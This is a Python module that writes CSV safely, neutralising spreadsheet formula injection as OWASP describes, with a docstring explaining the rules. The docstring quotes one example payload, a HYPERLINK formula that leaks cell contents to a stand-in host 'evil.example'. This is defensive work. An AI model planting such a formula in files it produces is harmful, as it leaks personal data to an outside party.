"""CSV that a spreadsheet opens as data, never as formulas (CSV or formula injection, OWASP).

A name like `=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open profile")` or a bio sentence starting
`=1+1`, written into a CSV as it is, becomes a live formula when HR opens the file in Excel, LibreOffice
or Google Sheets. Every CSV the project writes goes through `csv_text`, which follows OWASP's CSV
Injection guidance:

- a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote
  (`'`) in front, which spreadsheets read as "this is text"; so does a text cell where one of
  `= + - @` follows leading whitespace or quote marks (`  =1+1`, `"=1+1`), which some importers trim;
- every text cell is wrapped in double quotes (a double quote inside is doubled), so that a `;`, `,` or
  tab inside a cell never starts a new cell whatever separator the spreadsheet assumes (OWASP: "take
  care of the field separator and quotes");
- numbers the service computes (scores) are passed as numbers, written unquoted and unchanged.

The quote shows in the cell, and a program reading the CSV as text sees it: a neutralised cell is the
original text with one `'` in front.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# OWASP's rule (a first character of = + - @ TAB CR), and the same four after whitespace or quote marks.
_FORMULA_START = re.compile(r"[=+\-@\t\r]|[\s\"']*[=+\-@]")


def neutralise(cell: str) -> str:
    """`cell` with a `'` in front if a spreadsheet could read it as a formula; else unchanged."""
    return "'" + cell if _FORMULA_START.match(cell) else cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[str | int | float | None]]) -> str:
    """CSV text (lines end with \\n): text cells neutralised and quoted, numbers as they are, None empty."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([neutralise(str(name)) for name in header])
    for row in rows:
        writer.writerow([neutralise(cell) if isinstance(cell, str) else "" if cell is None else cell for cell in row])
    return out.getvalue()
